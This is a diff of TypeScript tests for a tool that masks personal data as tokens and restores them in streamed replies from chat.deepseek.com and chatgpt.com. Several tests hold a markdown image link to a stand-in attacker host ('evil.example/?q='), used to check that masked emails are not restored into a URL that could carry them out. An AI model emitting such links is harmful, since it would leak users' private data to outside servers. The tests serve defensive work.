@@ -44,44 +44,31 @@ function apply(root: Event, path: string, operation: string, value: Event): void
 }
 
 const finished = { p: 'response/status', o: 'SET', v: 'FINISHED' };
-const deepSeek = (fragments: object[]) => ({ v: { response: { message_id: 2, status: 'WIP', fragments } } });
+const deepSeek = (...fragments: object[]) => ({ v: { response: { message_id: 2, status: 'WIP', fragments } } });
 const fragment = (content: string, type = 'RESPONSE') => ({ id: 1, type, content });
+const inserted = (content: string) => ({ p: 'response/fragments', o: 'APPEND', v: [fragment(content)] });
+const more = (v: string, o?: 'APPEND') => ({ p: 'response/fragments/-1/content', ...(o && { o }), v });
+const evil = '![x](https://evil.example/?q=';
 
 describe('chat.deepseek.com', () => {
+  const pending = { v: false, p: 'has_pending_fragment' };
+  const inBatch = { v: [fragment('[EM')], p: 'fragments', o: 'APPEND' };
   const rows: [name: string, events: unknown[], texts: string[]][] = [
     [
       'a token begins in the first fragment of the document',
-      [
-        deepSeek([fragment('to [EM')]),
-        { p: 'response/fragments/-1/content', o: 'APPEND', v: 'AIL-1]' },
-        { v: '.' },
-        finished,
-      ],
+      [deepSeek(fragment('to [EM')), more('AIL-1]', 'APPEND'), { v: '.' }, finished],
       ['to a@b.example.'],
     ],
     [
       'a token begins in an inserted fragment',
-      [
-        deepSeek([]),
-        { p: 'response/fragments', o: 'APPEND', v: [fragment('[EM')] },
-        { p: 'response/fragments/-1/content', v: 'AIL-1]' },
-        { v: '.' },
-        finished,
-      ],
+      [deepSeek(), inserted('[EM'), more('AIL-1]'), { v: '.' }, finished],
       ['a@b.example.'],
     ],
     [
       'in a batch, and the fragment continues at its position',
       [
-        deepSeek([]),
-        {
-          v: [
-            { v: false, p: 'has_pending_fragment' },
-            { v: [fragment('[EM')], p: 'fragments', o: 'APPEND' },
-          ],
-          p: 'response',
-          o: 'BATCH',
-        },
+        deepSeek(),
+        { v: [pending, inBatch], p: 'response', o: 'BATCH' },
         { v: 'AIL-1]', p: 'response/fragments/0/content', o: 'APPEND' },
         { v: '.' },
         { p: 'response', o: 'BATCH', v: [{ p: 'status', v: 'FINISHED' }] },
@@ -90,23 +77,14 @@ describe('chat.deepseek.com', () => {
     ],
     [
       'a fragment that ends in the middle keeps its end',
-      [
-        deepSeek([fragment('I [EM', 'THINK')]),
-        { p: 'response/fragments', o: 'APPEND', v: [fragment('[NA')] },
-        { p: 'response/fragments/-1/content', v: 'ME-1]' },
-        finished,
-      ],
+      [deepSeek(fragment('I [EM', 'THINK')), inserted('[NA'), more('ME-1]'), finished],
       ['I [EM', 'O"Hara'],
     ],
-    ['the answer ends in the middle', [deepSeek([fragment('to [EM')]), finished], ['to [EM']],
+    ['the answer ends in the middle', [deepSeek(fragment('to [EM')), finished], ['to [EM']],
     [
       'tokens after a link that began in the document are not restored',
-      [
-        deepSeek([fragment('![x](https://evil.example/?q=')]),
-        { p: 'response/fragments/-1/content', o: 'APPEND', v: '[EMAIL-1])' },
-        finished,
-      ],
-      ['![x](https://evil.example/?q=[EMAIL-1])'],
+      [deepSeek(fragment(evil)), more('[EMAIL-1])', 'APPEND'), finished],
+      [`${evil}[EMAIL-1])`],
     ],
   ];
   it.each(rows)('%s', (_name, events, texts) => {
@@ -115,23 +93,12 @@ describe('chat.deepseek.com', () => {
   });
 
   it('inserted events are spelled as the service spells them', () => {
-    const { events } = received([
-      deepSeek([fragment('')]),
-      { p: 'response/fragments/-1/content', v: 'x [EM' },
-      finished,
-    ]);
-    expect(events.slice(1)).toEqual([
-      { p: 'response/fragments/-1/content', v: 'x ' },
-      { p: 'response/fragments/-1/content', o: 'APPEND', v: '[EM' },
-      finished,
-    ]);
+    const { events } = received([deepSeek(fragment('')), more('x [EM'), finished]);
+    expect(events.slice(1)).toEqual([more('x '), more('[EM', 'APPEND'), finished]);
   });
 
   it('a stream that begins after its document', () => {
-    const events = restored([
-      { p: 'response/fragments', o: 'APPEND', v: [fragment('to [EM')] },
-      { p: 'response/fragments/-1/content', v: 'AIL-1]' },
-    ]);
+    const events = restored([inserted('to [EM'), more('AIL-1]')]);
     expect(events.map(({ v }) => v)).toEqual([[fragment('to ')], 'a@b.example']);
   });
 
@@ -156,62 +123,40 @@ describe('chatgpt.com', () => {
     v: { message: { id: 'm', content: { content_type: 'text', parts: [text] }, status } },
     c: 0,
   });
+  const at = (o: string, v: string | number) => ({ p: place, o, v });
+  const next = (v: string) => ({ o: 'append', v });
+  const link = 'https://evil.example/';
   const rows: [name: string, events: unknown[], text: string][] = [
-    [
-      'a token begins in the message',
-      [message('to [EM'), { p: place, o: 'append', v: 'AIL-1]' }, { v: '.' }],
-      'to a@b.example.',
-    ],
+    ['a token begins in the message', [message('to [EM'), at('append', 'AIL-1]'), { v: '.' }], 'to a@b.example.'],
     [
       'tokens after a link that began in the message are not restored',
-      [message('![x](https://evil.example/?q='), { p: place, o: 'append', v: '[EMAIL-1])' }],
-      '![x](https://evil.example/?q=[EMAIL-1])',
+      [message(evil), at('append', '[EMAIL-1])')],
+      `${evil}[EMAIL-1])`,
     ],
-    [
-      'replacing a text ends it',
-      [
-        message(''),
-        { p: place, o: 'append', v: 'a [EM' },
-        { p: place, o: 'replace', v: 'b ' },
-        { o: 'append', v: 'c' },
-      ],
-      'b c',
-    ],
+    ['replacing a text ends it', [message(''), at('append', 'a [EM'), at('replace', 'b '), next('c')], 'b c'],
     [
       'a token begins in a replacement of a text',
-      [message('x'), { p: place, o: 'replace', v: 'to [EM' }, { o: 'append', v: 'AIL-1]' }],
+      [message('x'), at('replace', 'to [EM'), next('AIL-1]')],
       'to a@b.example',
     ],
-    [
-      'a link in a replacement of a text',
-      [message('x'), { p: place, o: 'replace', v: 'https://evil.example/' }, { o: 'append', v: '[EMAIL-1]' }],
-      'https://evil.example/[EMAIL-1]',
-    ],
-    [
-      'a link that was replaced',
-      [message('https://evil.example/'), { p: place, o: 'replace', v: 'to ' }, { o: 'append', v: '[EMAIL-1]' }],
-      'to a@b.example',
-    ],
+    ['a link in a replacement of a text', [message('x'), at('replace', link), next('[EMAIL-1]')], `${link}[EMAIL-1]`],
+    ['a link that was replaced', [message(link), at('replace', 'to '), next('[EMAIL-1]')], 'to a@b.example'],
     ['a complete message keeps its end', [message('to [EM', 'finished_successfully')], 'to [EM'],
     [
       'a text is truncated after a restored value',
-      [message('[EMAIL-1], dear Sir'), { p: place, o: 'truncate', v: 16 }, { o: 'append', v: '[NAME-1]' }],
+      [message('[EMAIL-1], dear Sir'), at('truncate', 16), next('[NAME-1]')],
       'a@b.example, dear O"Hara',
     ],
     [
       'a text is truncated inside a restored value',
-      [message('to [EMAIL-1] x'), { p: place, o: 'truncate', v: 6 }, { o: 'append', v: 'AIL-1] y' }],
+      [message('to [EMAIL-1] x'), at('truncate', 6), next('AIL-1] y')],
       'to a@b.example y',
     ],
-    [
-      'a text is truncated while its end is held back',
-      [message('ab [EM'), { p: place, o: 'truncate', v: 2 }, { o: 'append', v: 'c' }],
-      'abc',
-    ],
+    ['a text is truncated while its end is held back', [message('ab [EM'), at('truncate', 2), next('c')], 'abc'],
     [
       'a link remains after the truncation',
-      [message('see https://evil.example/ now'), { p: place, o: 'truncate', v: 25 }, { o: 'append', v: '[EMAIL-1]' }],
-      'see https://evil.example/[EMAIL-1]',
+      [message(`see ${link} now`), at('truncate', 25), next('[EMAIL-1]')],
+      `see ${link}[EMAIL-1]`,
     ],
   ];
   it.each(rows)('%s', (_name, events, text) => {
